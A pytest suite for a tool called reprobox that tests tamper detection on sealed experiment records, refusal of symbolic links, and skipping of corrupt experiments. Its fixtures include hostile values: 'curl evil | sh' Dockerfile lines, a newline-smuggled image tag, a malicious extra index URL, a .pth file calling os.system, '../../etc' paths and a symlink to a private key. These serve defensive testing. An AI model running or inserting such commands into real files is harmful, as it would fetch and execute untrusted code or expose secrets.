"""The whole capture is sealed, the store never writes through a link, and one bad experiment
never breaks the store.

Each attack starts from a record written by the real store code; the edits are made by hand, and
where an attacker would re-seal the record (anyone holding the folder can), ``tests.hostile.reseal``
does so. Every refusal names the experiment and the file or field.
"""

from __future__ import annotations

import json
import os
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Callable

import pytest
from click.testing import CliRunner

from reprobox.cli import main
from reprobox.errors import ExperimentNotFound, RecordRefused, StoreError
from reprobox.model import GitInfo, sha256_hex
from reprobox.safefs import UnsafePath
from reprobox.store import Store, StoredExperiment, image_mismatch

from ..asserts import refuses
from ..factories import make_env, make_exp
from ..hostile import plant_file, reseal

PATCH = (
    b"diff --git a/train.py b/train.py\n--- a/train.py\n+++ b/train.py\n"
    b"@@ -1 +1 @@\n-print(1)\n+print(2)\n"
)
FILES = {
    "requirements.lock": "numpy==1.26.4 --hash=sha256:" + "a" * 64 + "\n",
    "pylock.toml": 'lock-version = "1.0"\n',
    "Dockerfile": "FROM python:3.11.7-slim-bookworm\n",
    "patch.diff": PATCH,
}


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    monkeypatch.chdir(root)
    return root


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder outside the repository a hostile link points to; must stay as it is."""
    out = tmp_path / "outside"
    out.mkdir()
    (out / "keep.txt").write_text("victim\n")
    return out


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else b"<dir>")
        for p in sorted(folder.rglob("*"))
    }


def full_capture(
    store: Store, name: str = "baseline", created: str = "2026-11-27T10:00:00Z", acc: float = 0.93
) -> StoredExperiment:
    env = make_env()
    exp = make_exp(env, name=name, created=created, acc=acc)
    exp = replace(
        exp,
        git=GitInfo(
            commit="a" * 40,
            branch="main",
            dirty=True,
            patch="patch.diff",
            patch_sha256=sha256_hex(PATCH),
        ),
    )
    return store.save(exp, env, FILES)


def invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


# --------------------------------------------------------------------------- the seal


def test_manifest_lists_every_file_and_the_record_loads(repo: Path) -> None:
    stored = full_capture(Store(repo))
    assert sorted(stored.experiment.files) == sorted(["environment.json", *FILES])
    for name, digest in stored.experiment.files.items():
        assert digest == "sha256:" + sha256_hex((stored.path / name).read_bytes())
    assert Store(repo).load(stored.id).experiment == stored.experiment


def _change(name: str, data: bytes) -> Callable[[Path], str]:
    def edit(folder: Path) -> str:
        (folder / name).write_bytes(data)
        return f"{name} was changed after capture"

    return edit


def _add(folder: Path) -> str:
    (folder / "extra.pth").write_text("import os; os.system('id')\n")
    return "'extra.pth' was added after capture"


def _remove(folder: Path) -> str:
    (folder / "pylock.toml").unlink()
    return "pylock.toml was removed after capture"


def _field(key: str, value: object) -> Callable[[Path], str]:
    def edit(folder: Path) -> str:
        doc = json.loads((folder / "experiment.json").read_text())
        doc[key] = value
        (folder / "experiment.json").write_text(json.dumps(doc))
        return "experiment.json was modified after capture"

    return edit


def _env_field(folder: Path) -> str:
    doc = json.loads((folder / "environment.json").read_text())
    doc["os"]["codename"] = "trixie"  # not in the environment digest: only the manifest sees it
    doc["hardware"]["gpus"] = [{"name": "H100"}]
    (folder / "environment.json").write_text(json.dumps(doc))
    return "environment.json was changed after capture"


TAMPER = {
    "created": _field("created", "2099-01-01T00:00:00Z"),
    "tool_version": _field("tool_version", "0.0.1"),
    "image field": _field("image", "evil/image:latest"),
    "os and hardware": _env_field,
    "requirements.lock": _change(
        "requirements.lock", b"--extra-index-url https://evil.example/simple\nevil==1\n"
    ),
    "pylock.toml": _change("pylock.toml", b'lock-version = "1.0"\n[[packages]]\nname = "evil"\n'),
    "Dockerfile": _change("Dockerfile", b"FROM evil/base\nRUN curl evil | sh\n"),
    "patch.diff": _change("patch.diff", PATCH.replace(b"print(2)", b"print(3)")),
    "added file": _add,
    "removed file": _remove,
}

COMMANDS = [
    ("show", "{id}"),
    ("show", "{id}", "--json"),
    ("lock", "{id}"),
    ("build", "{id}", "--dry-run"),
    ("run", "{id}", "--backend", "venv"),
    ("verify", "{id}", "--backend", "venv"),
    ("diff", "{id}", "{other}"),
    ("pr", "{id}"),
    ("pr", "{other}", "--base", "{id}"),
]


@pytest.mark.parametrize("what", list(TAMPER))
def test_any_change_after_capture_is_refused_by_every_command(repo: Path, what: str) -> None:
    store = Store(repo)
    stored = full_capture(store)
    other = full_capture(store, name="other", acc=0.5)
    expected = TAMPER[what](stored.path)
    with refuses(RecordRefused, names=[expected, stored.id]):
        store.load(stored.id)
    for cmd in COMMANDS:
        args = [a.format(id=stored.id, other=other.id) for a in cmd]
        code, out, err = invoke(*args)
        assert code == 2, (args, out, err)
        assert expected in err and stored.id in err, (args, err)
        assert "Traceback" not in err + out


def test_patch_sha256_must_match_the_sealed_patch(repo: Path) -> None:
    store = Store(repo)
    stored = full_capture(store)
    (stored.path / "patch.diff").write_bytes(PATCH.replace(b"print(2)", b"print(3)"))
    new_id = reseal(stored.path)  # the manifest re-sealed, git.patch_sha256 left as it was
    with refuses(RecordRefused, names=["patch.diff does not match git.patch_sha256", new_id]):
        store.load(new_id)


def test_a_file_planted_and_resealed_is_a_new_id_not_the_reviewed_one(repo: Path) -> None:
    store = Store(repo)
    stored = full_capture(store)
    new_id = plant_file(stored.path, "requirements.lock", "evil==1\n")
    assert new_id != stored.id
    # The id a reviewer approved no longer names anything.
    with refuses(ExperimentNotFound, names=stored.id):
        store.load(stored.id)


def test_older_schema_is_refused_naming_the_fix(repo: Path) -> None:
    store = Store(repo)
    stored = full_capture(store)
    doc = json.loads((stored.path / "experiment.json").read_text())
    doc["schema"] = "reprobox.experiment/1"
    doc.pop("files")
    doc["image"] = None
    (stored.path / "experiment.json").write_text(json.dumps(doc))
    code, _, err = invoke("show", stored.id)
    assert code == 2
    assert "reprobox.experiment/1" in err and "older record" in err and "re-capture" in err


def test_lock_reseals_under_a_new_id_and_the_old_id_points_to_it(repo: Path) -> None:
    store = Store(repo)
    env = make_env()
    first = store.save(make_exp(env), env)  # an offline capture: no lock
    locked = store.reseal(first, {"requirements.lock": "numpy==1.26.4\n"}, replace_existing=True)
    assert locked.experiment.supersedes == first.id and store.ids() == [locked.id]
    code, _, err = invoke("show", first.id)
    assert code == 2 and f"re-sealed as {locked.id}" in err
    code, out, _ = invoke("show", "latest")
    assert code == 0 and locked.id in out


# --------------------------------------------------------------------------- one bad experiment


def _bad_unparseable(store: Store) -> str:
    s = full_capture(store, name="latest-name", created="2027-01-01T00:00:00Z", acc=0.1)
    (s.path / "experiment.json").write_text("{broken")
    return s.id


def _bad_tampered(store: Store) -> str:
    s = full_capture(store, name="latest-name", created="2027-01-02T00:00:00Z", acc=0.2)
    (s.path / "requirements.lock").write_text("evil==1\n")
    return s.id


def _bad_oversize(store: Store) -> str:
    s = full_capture(store, name="latest-name", created="2027-01-03T00:00:00Z", acc=0.3)
    with open(s.path / "environment.json", "ab") as fh:
        fh.write(b" " * (9 * 1024 * 1024))
    reseal(s.path, rename=False)
    doc = json.loads((s.path / "experiment.json").read_text())
    s.path.rename(s.path.parent / doc["id"])
    return str(doc["id"])


def _bad_deep(store: Store) -> str:
    s = full_capture(store, name="latest-name", created="2027-01-04T00:00:00Z", acc=0.4)
    (s.path / "environment.json").write_text("[" * 50_000 + "]" * 50_000)
    return reseal(s.path)


def _bad_schema(store: Store) -> str:
    s = full_capture(store, name="latest-name", created="2027-01-05T00:00:00Z", acc=0.5)
    return reseal(s.path, experiment=lambda d: d.update(schema="reprobox.experiment/9"))


def _bad_hostile(store: Store) -> str:
    s = full_capture(store, name="latest-name", created="2027-01-06T00:00:00Z", acc=0.6)
    return reseal(s.path, experiment=lambda d: d.update(cwd="../../etc"))


def _bad_link(store: Store) -> str:
    s = full_capture(store, name="latest-name", created="2027-01-07T00:00:00Z", acc=0.7)
    elsewhere = store.root.parent / "elsewhere"
    shutil.move(str(s.path), elsewhere)
    os.symlink(elsewhere, s.path)
    return s.id


def _bad_folder(store: Store) -> str:
    """A folder where the manifest names a file (read through os.fdopen, which raised
    IsADirectoryError: an internal error in every command, `ls` included)."""
    s = full_capture(store, name="latest-name", created="2027-01-08T00:00:00Z", acc=0.8)
    (s.path / "requirements.lock").unlink()
    (s.path / "requirements.lock").mkdir()
    return s.id


BAD = {
    "unparseable": (_bad_unparseable, "not valid JSON"),
    "a folder for a file": (_bad_folder, "not a plain file"),
    "tampered": (_bad_tampered, "requirements.lock was changed after capture"),
    "oversize": (_bad_oversize, "over the 8388608 bytes"),
    "deep nesting": (_bad_deep, "nests arrays or objects too deeply"),
    "newer schema": (_bad_schema, "newer than this reprobox"),
    "hostile value": (_bad_hostile, "refusing cwd="),
    "linked folder": (_bad_link, "symbolic link"),
}


@pytest.mark.parametrize("kind", list(BAD))
def test_one_bad_experiment_is_reported_and_skipped(repo: Path, kind: str) -> None:
    store = Store(repo)
    good = full_capture(store, name="latest-name", created="2026-12-01T00:00:00Z")
    make_bad, reason = BAD[kind]
    bad_id = make_bad(store)
    assert bad_id in store.ids()

    code, out, err = invoke("ls")
    assert code == 0 and good.id in out and bad_id not in out
    assert f"skipping experiment {bad_id}" in err and reason in err, err
    code, out, err = invoke("ls", "--json")
    assert code == 0 and [r["id"] for r in json.loads(out)] == [good.id]
    # latest and names resolve among the usable experiments only (the bad one is newer).
    for ref in ("latest", "latest-name"):
        code, out, err = invoke("show", ref)
        assert code == 0 and good.id in out, (ref, err)
    # Naming the bad one by its id (or a prefix) refuses it with the reason.
    for ref in (bad_id, bad_id[:6]):
        code, out, err = invoke("show", ref)
        assert code == 2 and reason in err and "Traceback" not in err, err


def test_skipped_experiments_reach_the_warn_callback(repo: Path) -> None:
    seen: list[str] = []
    store = Store(repo, warn=seen.append)
    good = full_capture(store)
    bad = _bad_tampered(store)
    assert store.resolve("latest") == good.id
    assert any(bad in w and "requirements.lock" in w for w in seen)


def test_no_usable_experiment_is_a_clear_error(repo: Path) -> None:
    store = Store(repo, warn=lambda _m: None)
    _bad_tampered(store)
    with refuses(ExperimentNotFound, names="no usable experiment"):
        store.resolve("latest")


# --------------------------------------------------------------------------- links


def test_linked_store_folder_is_refused_and_nothing_written_outside(
    repo: Path, outside: Path
) -> None:
    os.symlink(outside, repo / ".reprobox")
    before = snapshot(outside)
    store = Store(repo)
    with refuses(UnsafePath, names=str(repo / ".reprobox")) as exc:
        full_capture(store)
    assert exc.value.exit_code == 2
    code, _, err = invoke("ls")
    assert code == 2 and ".reprobox" in err and "symbolic link" in err
    assert snapshot(outside) == before


@pytest.mark.parametrize(
    "linked",
    [
        ".reprobox/experiments",
        ".reprobox/local",
        ".reprobox/local/images",
        ".reprobox/local/runs",
        ".reprobox/local/cache",
    ],
)
def test_every_store_component_refuses_a_link(repo: Path, outside: Path, linked: str) -> None:
    import datetime as dt

    store = Store(repo)
    stored = full_capture(store) if linked != ".reprobox/experiments" else None
    link = repo / linked
    if link.exists():
        shutil.rmtree(link)
    link.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(outside, link)
    before = snapshot(outside)
    attempts: list[Callable[[], object]] = [
        lambda: full_capture(store, name="again", acc=0.1),
        lambda: store.local_dir("cache", "dvc"),
        lambda: store.run_report_path("0123456789ab", dt.datetime(2026, 1, 1)),
    ]
    if stored is not None:
        attempts.append(lambda: store.set_image(stored, "reprobox/x:1"))
    refused = 0
    for attempt in attempts:
        try:
            attempt()
        except UnsafePath as exc:
            assert linked in str(exc.path), exc.message
            refused += 1
    assert refused >= 1
    assert snapshot(outside) == before


def test_linked_file_in_an_experiment_is_refused(repo: Path) -> None:
    store = Store(repo)
    stored = full_capture(store)
    secret = repo.parent / "id_rsa"
    secret.write_text("PRIVATE KEY\n")
    (stored.path / "requirements.lock").unlink()
    os.symlink(secret, stored.path / "requirements.lock")
    new_id = reseal(stored.path)  # the manifest lists the target's sha256, as an attacker would
    with refuses(UnsafePath, names=["requirements.lock", "symbolic link"]):
        store.load(new_id)
    code, out, err = invoke("show", new_id)
    assert code == 2 and "PRIVATE KEY" not in out + err


def test_committed_gitignore_link_is_not_written_through(repo: Path, outside: Path) -> None:
    (repo / ".reprobox").mkdir()
    os.symlink(outside / "keep.txt", repo / ".reprobox" / ".gitignore")
    full_capture(Store(repo))
    assert (outside / "keep.txt").read_text() == "victim\n"


def test_run_report_and_image_records_are_local_and_ignored(repo: Path) -> None:
    import datetime as dt

    store = Store(repo)
    stored = full_capture(store)
    path = store.run_report_path(stored.id, dt.datetime(2026, 1, 1))
    store.write_run_report(path, "{}\n")
    store.set_image(stored, "reprobox/repo:" + stored.id)
    assert path.parent == repo / ".reprobox" / "local" / "runs"
    assert (repo / ".reprobox" / "local" / ".gitignore").read_text().splitlines()[-1] == "*"
    assert store.load(stored.id).experiment == stored.experiment  # the record is untouched
    with refuses(StoreError, names="elsewhere.json"):
        store.write_run_report(repo / "elsewhere.json", "{}")


def test_hostile_local_image_record_is_ignored(repo: Path) -> None:
    store = Store(repo, warn=lambda _m: None)
    stored = full_capture(store)
    images = repo / ".reprobox" / "local" / "images"
    images.mkdir(parents=True)
    (images / f"{stored.id}.json").write_text(
        json.dumps(
            {
                "schema": "reprobox.local-image/1",
                "experiment": stored.id,
                "tag": "evil\nRUN curl x | sh",
            }
        )
    )
    assert store.load(stored.id).image is None


# --------------------------------------------------------------------------- images


def test_image_labels_must_name_this_capture(repo: Path) -> None:
    stored = full_capture(Store(repo))
    good = {"reprobox.experiment": stored.id, "reprobox.env-digest": stored.environment.digest}
    assert image_mismatch(good, stored) is None
    assert "reprobox.experiment" in (image_mismatch({}, stored) or "")
    other = {**good, "reprobox.experiment": "0123456789ab"}
    assert "'0123456789ab'" in (image_mismatch(other, stored) or "")
    wrong_env = {**good, "reprobox.env-digest": "sha256:" + "0" * 64}
    assert "reprobox.env-digest" in (image_mismatch(wrong_env, stored) or "")


class _Engine:
    def __init__(self, labels: dict[str, dict[str, str]]) -> None:
        self.labels = labels

    def image_exists(self, tag: str) -> bool:
        return tag in self.labels

    def image_labels(self, tag: str) -> dict[str, str]:
        return self.labels[tag]


def test_docker_backend_uses_a_local_image_only_when_its_labels_match(repo: Path) -> None:
    from reprobox.backends.docker import DockerBackend

    store = Store(repo)
    stored = store.set_image(full_capture(store), "evil/any:latest")
    said: list[str] = []
    backend = DockerBackend(_Engine({"evil/any:latest": {"maintainer": "x"}}))
    assert not backend._usable("evil/any:latest", stored, said.append)
    assert any(
        "not using the local image evil/any:latest" in s and "reprobox.experiment" in s
        for s in said
    )
    ok = {"reprobox.experiment": stored.id, "reprobox.env-digest": stored.environment.digest}
    assert DockerBackend(_Engine({"t:1": ok}))._usable("t:1", stored, said.append)
